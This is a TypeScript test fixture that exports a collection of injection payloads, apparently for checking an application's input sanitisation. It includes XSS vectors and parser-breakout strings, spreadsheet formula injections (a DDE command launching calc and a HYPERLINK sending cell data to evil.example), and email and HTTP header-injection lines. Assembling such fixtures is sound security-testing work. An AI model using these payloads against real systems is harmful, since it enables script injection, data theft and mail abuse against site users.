/**
 * Inputs that would do harm when others read them. Those that run set `window.proved`; those that become an
 * element carry `data-prove`.
 */
const RUN = 'window.proved=1,alert(1)';
const UP = 'parent.proved=1,parent.alert(1)';
const SCRIPT = `<script data-prove>${RUN}</script>`;
const IMAGE = `<img data-prove src=x onerror="${RUN}">`;

/** Elements that run something or lead somewhere. */
const ELEMENTS = [
  SCRIPT,
  `<ScRiPt data-prove>${RUN}</sCrIpT>`,
  `<script/data-prove src="data:,${RUN}"></script>`,
  `<<script data-prove>${RUN}//<</script>`,
  IMAGE,
  `<img/data-prove/src=x/onerror=${RUN}>`,
  `<svg data-prove onload="${RUN}">`,
  `<svg/onload=${RUN} data-prove//`,
  `<svg><script data-prove>${RUN}</script></svg>`,
  `<svg><animate data-prove onbegin="${RUN}" attributeName=x></svg>`,
  `<svg><a data-prove xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<math data-prove><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body data-prove onload="${RUN}">`,
  `<iframe data-prove src="javascript:${UP}"></iframe>`,
  `<iframe data-prove srcdoc="<script>${UP}</script>"></iframe>`,
  `<object data-prove data="data:text/html,<script>${UP}</script>"></object>`,
  `<embed data-prove src="javascript:${RUN}">`,
  `<form data-prove action="javascript:${RUN}"><button>x</button></form>`,
  `<input data-prove autofocus onfocus="${RUN}">`,
  `<details data-prove open ontoggle="${RUN}">x</details>`,
  `<video data-prove><source onerror="${RUN}"></video>`,
  `<audio data-prove src=x onerror="${RUN}"></audio>`,
  `<marquee data-prove onstart="${RUN}">x</marquee>`,
  `<base data-prove href="//evil.example/">`,
  `<link data-prove rel=stylesheet href="//evil.example/x.css">`,
  `<meta data-prove http-equiv=refresh content="0;url=//evil.example/">`,
  `<style data-prove>@import '//evil.example/x.css'</style>`,
  `<a data-prove href="javascript:${RUN}">x</a>`,
  `<template data-prove>${SCRIPT}</template>`,
];
/** Breaking out of an attribute, a text element, or a comment. */
const BREAKOUTS = [
  `" autofocus onfocus="${RUN}" data-prove="`,
  `' autofocus onfocus='${RUN}' data-prove='`,
  `\` onmouseover=${RUN} data-prove=`,
  `">${IMAGE}`,
  `'>${IMAGE}`,
  `</script>${SCRIPT}`,
  `</style>${SCRIPT}`,
  `</title>${IMAGE}`,
  `</textarea>${SCRIPT}`,
  `</select></option>${IMAGE}`,
  `-->${SCRIPT}`,
  `]]>${SCRIPT}`,
  `*/${RUN}/*`,
  `';${RUN};'`,
  `\\";${RUN};//`,
  `\u2028${RUN}\u2028`,
];
/** Text that becomes HTML only when it is decoded twice. */
export const TWICE: readonly string[] = [
  `<noscript><p title="</noscript>${IMAGE.replaceAll('"', "'")}"></noscript>`,
  `<svg></p><style><a id="</style>${IMAGE.replaceAll('"', "'")}">`,
  `<math><mtext><table><mglyph><style><!--</style><img data-prove title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<!--<img src="-->${IMAGE}">`,
  SCRIPT.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  IMAGE.replaceAll('<', '&#x3C;').replaceAll('>', '&#62;'),
  encodeURIComponent(SCRIPT),
  SCRIPT.replaceAll('<', '\\u003c'),
  SCRIPT.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  `\u202e${SCRIPT}\u202c`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
];
/** For text that becomes an address. */
export const SCHEMES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://clinic.example/%0a${RUN}`,
  `javascript:clinic.example/*${RUN}*/`,
  `data:text/html,<script>${RUN}</script>`,
  'vbscript:msgbox(1)',
  `https://clinic.example/"onmouseover="${RUN}"data-prove="`,
];
/** For text that becomes a spreadsheet cell. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff20SUM(1)',
  '%0A=1+1',
  '"=1+1',
  '";=1+1;"',
];
/** For text that becomes a header. */
const HEADERS = [
  'x\r\nBcc: evil@evil.example',
  'x\nBcc: evil@evil.example\n\n<h1>Evil</h1>',
  'x\rSubject: Evil',
  'x\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>',
  'x%0d%0aBcc: evil@evil.example',
  '=?utf-8?q?x=0D=0ABcc:_evil@evil.example?=',
  '"Evil" <evil@evil.example>, x',
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...BREAKOUTS, ...TWICE, ...SCHEMES, ...FORMULAS, ...HEADERS];
